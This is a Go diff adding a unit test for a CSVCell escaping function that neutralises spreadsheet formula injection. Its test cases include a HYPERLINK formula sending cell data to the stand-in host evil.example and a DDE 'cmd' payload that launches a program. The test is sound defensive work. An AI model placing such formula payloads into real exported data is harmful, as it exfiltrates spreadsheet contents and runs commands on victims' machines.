@@ -125,6 +125,27 @@ func TestLine(t *testing.T) {
 	}
 }
 
+// TestCSVCell: a cell that a spreadsheet would run as a formula starts
+// with "'"; other text is only escaped.
+func TestCSVCell(t *testing.T) {
+	tests := []struct{ in, want string }{
+		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
+		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
+		{"+1", "'+1"},
+		{"-2+3", "'-2+3"},
+		{"\t=1", `\t=1`}, // escaped: starts with a backslash
+		{"\r=1", `\r=1`},
+		{"iperf 3.12", "iperf 3.12"},
+		{"a=b", "a=b"},
+		{"", ""},
+	}
+	for _, tt := range tests {
+		if got := CSVCell(tt.in); got != tt.want {
+			t.Errorf("CSVCell(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+}
+
 // TestLogAttr: with LogAttr, the text and JSON handlers that meshperf's
 // daemons log with write no raw control (slog's text handler alone leaves
 // DEL raw, its JSON handler DEL, C1 and bidi controls), and a value stays
